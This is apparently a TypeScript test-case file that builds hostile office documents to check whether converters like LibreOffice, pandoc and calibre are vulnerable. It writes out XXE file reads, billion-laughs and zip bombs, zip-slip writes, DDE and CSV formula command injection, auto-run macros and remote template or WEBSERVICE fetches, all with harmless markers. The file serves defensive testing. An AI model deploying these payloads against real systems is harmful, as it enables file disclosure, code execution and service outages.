/** Documents, tables and slides that link, include, run and unpack. */
import { flat, frame, openDocument } from '../bytes/open-document.ts';
import { docx, field, linkedPicture, outside, paragraph, pptx, xlsx } from '../bytes/open-xml.ts';
import { zip } from '../bytes/zip.ts';
import { inCategory, type Bait, type FileCase } from '../case.ts';
import { laughs, zeroes } from './bombs.ts';

/** By LibreOffice, by pandoc and by calibre. */
const words = ['pdf', 'html', 'epub', 'md'];
const letters = ['pdf', 'docx', 'html'];
const tables = ['pdf', 'csv', 'html', 'xlsx'];

const text = '<w:t>x</w:t>';
const cell = (inside: string) => `<sheetData><row r="1"><c r="A1">${inside}</c></row></sheetData>`;

const macro = ({ marker }: Bait) => `Sub Main\nShell("/usr/bin/touch", 0, "${marker}", True)\nEnd Sub\n`;

const onLoad =
  '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners>';

const flatMacro = (bait: Bait) =>
  `<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard"><ooo:module ooo:name="M"><ooo:source-code>${macro(bait)}</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>${onLoad}</office:scripts>`;

const table = (inside: string) => `<table:table table:name="S">${inside}</table:table>`;
const formula = (is: string) =>
  table(`<table:table-row><table:table-cell table:formula="${is}" office:value-type="string"/></table:table-row>`);

const openXml: readonly FileCase[] = [
  {
    name: 'docx-image-file',
    kind: 'read',
    ext: 'docx',
    to: words,
    make: ({ picture }) => docx({ body: linkedPicture('i'), links: outside('i', 'image', `file://${picture}`) }),
  },
  {
    name: 'docx-image-temp',
    kind: 'read',
    ext: 'docx',
    to: ['pdf'],
    make: ({ tempPicture }) => docx({ body: linkedPicture('i'), links: outside('i', 'image', `file://${tempPicture}`) }),
  },
  {
    name: 'docx-image-http',
    kind: 'network',
    ext: 'docx',
    to: words,
    make: ({ url }) => docx({ body: linkedPicture('i'), links: outside('i', 'image', `${url}picture.png`) }),
  },
  {
    name: 'docx-image-host',
    kind: 'network',
    ext: 'docx',
    to: ['pdf'],
    make: ({ host }) => docx({ body: linkedPicture('i'), links: outside('i', 'image', `http://${host}/picture.png`) }),
  },
  {
    name: 'docx-image-share',
    kind: 'network',
    ext: 'docx',
    to: ['pdf'],
    make: () => docx({ body: linkedPicture('i'), links: outside('i', 'image', 'smb://10.1.2.3/share/picture.png') }),
  },
  {
    name: 'docx-picture-old',
    kind: 'network',
    ext: 'docx',
    to: ['pdf', 'html'],
    make: ({ url }) =>
      docx({
        body: paragraph('<w:pict><v:shape style="width:90pt;height:90pt"><v:imagedata r:id="i"/></v:shape></w:pict>'),
        links: outside('i', 'image', `${url}picture.png`),
      }),
  },
  {
    name: 'docx-xxe',
    kind: 'read',
    ext: 'docx',
    to: words,
    make: ({ text: file }) =>
      docx({ before: `<!DOCTYPE w [<!ENTITY x SYSTEM "file://${file}">]>`, body: paragraph('<w:t>&x;</w:t>') }),
  },
  {
    name: 'docx-template-http',
    kind: 'network',
    ext: 'docx',
    to: ['pdf', 'odt'],
    make: ({ url }) => docx({ body: paragraph(text), links: outside('t', 'attachedTemplate', `${url}t.dotm`) }),
  },
  {
    name: 'docx-include-text',
    kind: 'read',
    ext: 'docx',
    to: ['pdf', 'txt', 'html'],
    make: ({ text: file }) => docx({ body: field(`INCLUDETEXT "${file}"`) }),
  },
  {
    name: 'docx-include-picture',
    kind: 'network',
    ext: 'docx',
    to: ['pdf', 'html'],
    make: ({ url }) => docx({ body: field(`INCLUDEPICTURE "${url}picture.png" \\d`) }),
  },
  {
    name: 'docx-dde',
    kind: 'code',
    ext: 'docx',
    to: ['pdf', 'html'],
    make: ({ marker }) => docx({ body: field(`DDEAUTO /bin/sh "-c 'touch ${marker}'"`) }),
  },
  {
    name: 'docx-chunk-file',
    kind: 'read',
    ext: 'docx',
    to: ['pdf', 'html', 'md'],
    make: ({ text: file }) => docx({ body: '<w:altChunk r:id="c"/>', links: outside('c', 'aFChunk', `file://${file}`) }),
  },
  {
    name: 'docx-object-link',
    kind: 'read',
    ext: 'docx',
    to: ['pdf'],
    make: ({ text: file }) =>
      docx({
        body: paragraph('<w:object><o:OLEObject Type="Link" ProgID="Word.Document.8" ShapeID="s" DrawAspect="Content" r:id="o" UpdateMode="Always"/></w:object>'),
        links: outside('o', 'oleObject', `file://${file}`),
      }),
  },
  {
    name: 'docx-bomb',
    kind: 'resource',
    ext: 'docx',
    to: ['pdf', 'html', 'txt', 'epub'],
    long: true,
    make: async () =>
      docx({
        body: paragraph(text),
        more: [{ name: 'word/styles.xml', packed: { bytes: await zeroes.deflate(1500), plain: 1500 * 1024 ** 2, crc: 0 } }],
      }),
  },
  {
    name: 'docx-blank-bomb',
    kind: 'resource',
    ext: 'docx',
    to: ['pdf', 'html', 'md', 'epub'],
    long: true,
    make: () => docx({ body: paragraph(`<w:t xml:space="preserve">${' '.repeat(200_000_000)}</w:t>`) }),
  },
  {
    name: 'docx-laughs',
    kind: 'resource',
    ext: 'docx',
    to: ['pdf', 'html'],
    make: () => docx({ before: `<!DOCTYPE w [${laughs}]>`, body: paragraph('<w:t>&l9;</w:t>') }),
  },
  {
    name: 'docx-deep',
    kind: 'resource',
    ext: 'docx',
    to: ['pdf', 'html', 'txt'],
    long: true,
    make: () =>
      docx({ body: '<w:tbl><w:tr><w:tc>'.repeat(20_000) + '<w:p/>' + '</w:tc></w:tr></w:tbl>'.repeat(20_000) }),
  },
  {
    name: 'docx-slip',
    kind: 'write',
    ext: 'docx',
    to: ['pdf', 'html', 'epub'],
    make: ({ marker }) => docx({ body: paragraph(text), more: [{ name: `../../../../../..${marker}`, data: 'x' }] }),
  },
  {
    name: 'xlsx-webservice',
    kind: 'network',
    ext: 'xlsx',
    to: tables,
    make: ({ url }) => xlsx(cell(`<f>_xlfn.WEBSERVICE("${url}data.xml")</f>`)),
  },
  {
    name: 'xlsx-dde',
    kind: 'code',
    ext: 'xlsx',
    to: tables,
    make: ({ marker }) => xlsx(cell(`<f>DDE("/bin/sh","-c","touch ${marker}")</f>`)),
  },
  {
    name: 'xlsx-external',
    kind: 'read',
    ext: 'xlsx',
    to: tables,
    make: ({ text: file }) =>
      xlsx(cell(`<f>'file://${file}'#$S.A1</f>`), {
        'xl/externalLinks/_rels/externalLink1.xml.rels': `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${outside('x', 'externalLinkPath', `file://${file}`)}</Relationships>`,
        'xl/externalLinks/externalLink1.xml':
          '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="x"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>',
      }),
  },
  {
    name: 'xlsx-corner',
    kind: 'resource',
    ext: 'xlsx',
    to: ['csv', 'pdf', 'html', 'json'],
    make: () =>
      xlsx('<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
  },
  {
    name: 'xlsx-merged',
    kind: 'resource',
    ext: 'xlsx',
    to: ['csv', 'html', 'json'],
    make: () => xlsx(`${cell('<v>1</v>')}<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>`),
  },
  {
    name: 'xlsx-laughs',
    kind: 'resource',
    ext: 'xlsx',
    to: ['csv', 'json'],
    make: () =>
      xlsx(cell('<v>1</v>'), {
        'xl/sharedStrings.xml': `<!DOCTYPE s [${laughs}]><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&l9;</t></si></sst>`,
      }),
  },
  {
    name: 'xlsx-bomb',
    kind: 'resource',
    ext: 'xlsx',
    to: ['csv', 'json', 'pdf'],
    long: true,
    make: () => xlsx(`<sheetData>${'<row><c><v>1</v></c></row>'.repeat(5_000_000)}</sheetData>`),
  },
  {
    name: 'xlsx-costly-formula',
    kind: 'resource',
    ext: 'xlsx',
    to: ['csv', 'pdf'],
    long: true,
    make: () =>
      xlsx(
        `<sheetData>${Array.from({ length: 2000 }, (_, n) => `<row r="${n + 1}"><c r="A${n + 1}"><f>SUMPRODUCT((A$3000:Z$1048576=ROW())*1)</f></c></row>`).join('')}</sheetData>`,
      ),
  },
  {
    name: 'pptx-image-http',
    kind: 'network',
    ext: 'pptx',
    to: ['pdf', 'png', 'odp'],
    make: ({ url }) =>
      pptx(
        '<p:pic><p:nvPicPr><p:cNvPr id="2" name="p"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:link="i"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/></p:spPr></p:pic>',
        outside('i', 'image', `${url}picture.png`),
      ),
  },
  {
    name: 'pptx-media-file',
    kind: 'read',
    ext: 'pptx',
    to: ['pdf', 'odp'],
    make: ({ text: file }) =>
      pptx(
        '<p:pic><p:nvPicPr><p:cNvPr id="2" name="p"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="v"/></p:nvPr></p:nvPicPr><p:blipFill/><p:spPr/></p:pic>',
        outside('v', 'video', `file://${file}`),
      ),
  },
];

const openDocuments: readonly FileCase[] = [
  {
    name: 'fodt-image-file',
    kind: 'read',
    ext: 'fodt',
    to: letters,
    make: ({ picture }) => flat('text', { inside: `<text:p>${frame(`file://${picture}`)}</text:p>` }),
  },
  {
    name: 'fodt-image-http',
    kind: 'network',
    ext: 'fodt',
    to: letters,
    make: ({ url }) => flat('text', { inside: `<text:p>${frame(`${url}picture.png`)}</text:p>` }),
  },
  {
    name: 'odt-image-file',
    kind: 'read',
    ext: 'odt',
    to: words,
    make: ({ picture }) => openDocument('text', { inside: `<text:p>${frame(`file://${picture}`)}</text:p>` }),
  },
  {
    name: 'odt-image-climbing',
    kind: 'read',
    ext: 'odt',
    to: words,
    make: ({ tempPicture }) => openDocument('text', { inside: `<text:p>${frame(`../../../../../..${tempPicture}`)}</text:p>` }),
  },
  {
    name: 'odt-object-file',
    kind: 'read',
    ext: 'odt',
    to: ['pdf', 'docx'],
    make: ({ text: file }) =>
      openDocument('text', {
        inside: `<text:p><draw:frame svg:width="3cm" svg:height="3cm"><draw:object xlink:href="file://${file}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame><draw:frame svg:width="3cm" svg:height="3cm"><draw:floating-frame xlink:href="file://${file}" xlink:type="simple"/></draw:frame></text:p>`,
      }),
  },
  {
    name: 'fodt-section-file',
    kind: 'read',
    ext: 'fodt',
    to: ['pdf', 'txt', 'docx'],
    make: ({ text: file }) =>
      flat('text', {
        inside: `<text:section text:name="s"><text:section-source xlink:href="file://${file}" xlink:type="simple" xlink:show="embed"/><text:p>x</text:p></text:section>`,
      }),
  },
  {
    name: 'fodt-section-dde',
    kind: 'code',
    ext: 'fodt',
    to: ['pdf'],
    make: ({ marker }) =>
      flat('text', {
        inside: `<text:section text:name="s"><office:dde-source office:dde-application="/bin/sh" office:dde-topic="-c" office:dde-item="touch ${marker}" office:automatic-update="true"/><text:p>x</text:p></text:section>`,
      }),
  },
  {
    name: 'fodt-macro',
    kind: 'code',
    ext: 'fodt',
    to: ['pdf', 'docx'],
    make: (bait) => flat('text', { scripts: flatMacro(bait), inside: '<text:p>x</text:p>' }),
  },
  {
    name: 'fods-macro',
    kind: 'code',
    ext: 'fods',
    to: ['csv', 'pdf'],
    make: (bait) => flat('spreadsheet', { scripts: flatMacro(bait), inside: formula('of:=1') }),
  },
  {
    name: 'odt-script-python',
    kind: 'code',
    ext: 'odt',
    to: ['pdf'],
    make: ({ marker }) =>
      openDocument(
        'text',
        {
          scripts:
            '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:m.py$main?language=Python&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts>',
          inside: '<text:p>x</text:p>',
        },
        { 'Scripts/python/m.py': `def main(*a):\n    open("${marker}", "w").write("x")\n` },
      ),
  },
  {
    name: 'fods-webservice',
    kind: 'network',
    ext: 'fods',
    to: tables.filter((to) => to !== 'fods'),
    make: ({ url }) => flat('spreadsheet', { inside: formula(`of:=WEBSERVICE(&quot;${url}x.xml&quot;)`) }),
  },
  {
    name: 'fods-webservice-file',
    kind: 'read',
    ext: 'fods',
    to: tables,
    make: ({ text: file }) => flat('spreadsheet', { inside: formula(`of:=WEBSERVICE(&quot;file://${file}&quot;)`) }),
  },
  {
    name: 'fods-external',
    kind: 'read',
    ext: 'fods',
    to: tables,
    make: ({ text: file }) => flat('spreadsheet', { inside: formula(`of:='file://${file}'#$S.A1`) }),
  },
  {
    name: 'fods-table-source',
    kind: 'read',
    ext: 'fods',
    to: tables,
    make: ({ text: file }) =>
      flat('spreadsheet', {
        inside: `<table:table table:name="S"><table:table-source xlink:href="file://${file}" xlink:type="simple" table:filter-name="Text - txt - csv (StarCalc)" table:table-name="x" table:refresh-delay="PT1S"/><table:table-row><table:table-cell/></table:table-row></table:table>`,
      }),
  },
  {
    name: 'fods-repeat',
    kind: 'resource',
    ext: 'fods',
    to: ['csv', 'html', 'xlsx', 'pdf'],
    long: true,
    make: () =>
      flat('spreadsheet', {
        inside: table(
          `<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="1024" office:value-type="string"><text:p>${'x'.repeat(10_000)}</text:p></table:table-cell></table:table-row>`,
        ),
      }),
  },
  {
    name: 'ods-repeat',
    kind: 'resource',
    ext: 'ods',
    to: ['csv', 'json'],
    long: true,
    make: () =>
      openDocument('spreadsheet', {
        inside: table(
          '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="1024" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>',
        ),
      }),
  },
  {
    name: 'odt-laughs',
    kind: 'resource',
    ext: 'odt',
    to: ['pdf', 'html', 'epub'],
    make: () => openDocument('text', { before: `<!DOCTYPE o [${laughs}]>`, inside: '<text:p>&l9;</text:p>' }),
  },
  {
    name: 'odt-xxe',
    kind: 'read',
    ext: 'odt',
    to: words,
    make: ({ text: file }) =>
      openDocument('text', { before: `<!DOCTYPE o [<!ENTITY x SYSTEM "file://${file}">]>`, inside: '<text:p>&x;</text:p>' }),
  },
  {
    name: 'fodp-image-http',
    kind: 'network',
    ext: 'fodp',
    to: ['pdf', 'pptx'],
    make: ({ url }) =>
      flat('presentation', { inside: `<draw:page draw:name="p">${frame(`${url}picture.png`)}</draw:page>` }),
  },
  {
    name: 'fodg-image-file',
    kind: 'read',
    ext: 'fodg',
    to: ['pdf', 'png', 'svg'],
    make: ({ picture }) =>
      flat('graphics', { inside: `<draw:page draw:name="p">${frame(`file://${picture}`)}</draw:page>` }),
  },
];

const rtf = (inside: string) => `{\\rtf1\\ansi ${inside}\\par x}`;

const older: readonly FileCase[] = [
  {
    name: 'rtf-picture-field',
    kind: 'network',
    ext: 'rtf',
    to: ['pdf', 'docx', 'html'],
    make: ({ url }) => rtf(`{\\field{\\*\\fldinst INCLUDEPICTURE "${url}picture.png" \\\\d}{\\fldrslt x}}`),
  },
  {
    name: 'rtf-include-text',
    kind: 'read',
    ext: 'rtf',
    to: ['pdf', 'txt', 'html'],
    make: ({ text: file }) => rtf(`{\\field{\\*\\fldinst INCLUDETEXT "${file}"}{\\fldrslt x}}`),
  },
  {
    name: 'rtf-template',
    kind: 'network',
    ext: 'rtf',
    to: ['pdf', 'docx'],
    make: ({ url }) => rtf(`{\\*\\template ${url}t.dot}`),
  },
  {
    name: 'rtf-object-link',
    kind: 'read',
    ext: 'rtf',
    to: ['pdf', 'odt'],
    make: ({ text: file }) =>
      rtf(`{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document}{\\*\\objdata ${Buffer.from(file).toString('hex')}}}`),
  },
  { name: 'rtf-deep', kind: 'resource', ext: 'rtf', to: ['pdf', 'txt', 'html'], make: () => rtf('{'.repeat(500_000)) },
  {
    name: 'csv-webservice',
    kind: 'network',
    ext: 'csv',
    to: ['xlsx', 'pdf', 'html', 'ods'],
    make: ({ url }) => `a,b\n"=WEBSERVICE(""${url}x"")",1\n`,
  },
  {
    name: 'csv-dde',
    kind: 'code',
    ext: 'csv',
    to: ['xlsx', 'pdf', 'ods'],
    make: ({ marker }) => `a,b\n"=cmd|'/C touch ${marker}'!A0","=DDE(""/bin/sh"";""-c"";""touch ${marker}"")"\n`,
  },
  {
    name: 'slk-formula',
    kind: 'network',
    ext: 'slk',
    to: ['pdf', 'csv', 'xlsx'],
    make: ({ url }) => `ID;P\nC;X1;Y1;K"x";EWEBSERVICE("${url}x")\nE\n`,
  },
  {
    name: 'docx-pretending-zip-bomb',
    kind: 'resource',
    ext: 'docx',
    to: ['pdf', 'md'],
    make: () =>
      zip([
        { name: 'word/document.xml', data: 'x', claims: 0xfffffff0 },
        ...Array.from({ length: 60_000 }, (_, n) => ({ name: `word/${n}.xml`, stored: true as const })),
      ]),
  },
];

export const office = inCategory('office', [...openXml, ...openDocuments, ...older]);
